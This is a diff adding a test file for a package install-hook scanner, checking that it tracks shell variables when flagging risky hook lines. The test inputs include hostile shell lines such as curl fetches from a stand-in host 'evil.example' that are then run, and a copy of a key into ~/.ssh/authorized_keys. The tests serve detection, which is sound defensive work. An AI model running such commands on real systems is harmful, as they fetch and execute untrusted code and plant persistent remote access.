@@ -1,0 +1,42 @@
+/**
+ * Pins that the hook scan reads simple shell variables assigned earlier in the hook (or earlier on
+ * the same line): a download, a run or a write through `"$f"` is the one through the path `f`
+ * holds; single quotes, command substitutions and names a command sets are not guessed at; and
+ * variables holding paths inside the install root raise nothing.
+ */
+import { describe, expect, it } from 'vitest';
+
+import { installFindings } from '../support/scan-package.ts';
+
+describe('hook scan: shell variables', () => {
+  it('sees a download through variables set on earlier lines, then run by its path', async () => {
+    expect(await installFindings('u=https://evil.example/x', 'f=p', 'curl -fsSL -o "$f" "$u"', './p')).toEqual(['install.download-exec@INSTALL:5']);
+  });
+
+  it('sees a run through a variable of a file downloaded by its path', async () => {
+    expect(await installFindings('curl -fsSL -o tool https://evil.example/t', 'T=./tool', 'chmod +x "${T}"')).toEqual(['install.download-exec@INSTALL:4']);
+  });
+
+  it('sees a write outside the root through a variable set on an earlier line', async () => {
+    expect(await installFindings('D=$HOME/.ssh', 'cp payload/key "$D/authorized_keys"')).toEqual(['install.outside-root@INSTALL:3']);
+  });
+
+  it('sees a variable built from another, and one exported', async () => {
+    expect(await installFindings('export PREFIX=/usr/local', 'BIN="$PREFIX/bin"', 'install -m 755 payload/tool "$BIN"/tool')).toEqual(['install.outside-root@INSTALL:4']);
+  });
+
+  it('reads the same line in order: u, f, the download, chmod, the run', async () => {
+    expect(await installFindings('u=https://evil.example/x; f=/tmp/p; curl -o "$f" "$u"; chmod +x "$f"; "$f"')).toEqual(['install.outside-root@INSTALL:2', 'install.download-exec@INSTALL:2']);
+  });
+
+  it.each([
+    ['variables holding paths inside the root', ['V="$AGPK_INSTALL_ROOT/var"', 'BIN=bin', 'mkdir -p "$V/cache" "$BIN"', 'cp payload/tool "$BIN/tool"', 'echo ok > "$V/state"']],
+    ['a name in single quotes is text', ["D=/etc", "echo '$D/x' > notes.txt"]],
+    ['a name set by a command substitution is not guessed', ['f=/etc/x', 'f=$(mktemp -d "$AGPK_INSTALL_ROOT/tmp.XXXX")', 'cp payload/a "$f/a"']],
+    ['a name read by read or a for loop is not guessed', ['d=/etc', 'for d in var cache; do mkdir -p "$d"; done']],
+    ['an assignment for one command only', ['D=/etc cp a b', 'cp payload/a "$D/a"']],
+    ['a shipped script run through a variable', ['S="$AGPK_INSTALL_ROOT/payload/setup.sh"', 'sh "$S"', 'chmod +x "$S"']],
+  ])('flags nothing for %s', async (_what, lines) => {
+    expect(await installFindings(...lines)).toEqual([]);
+  });
+});
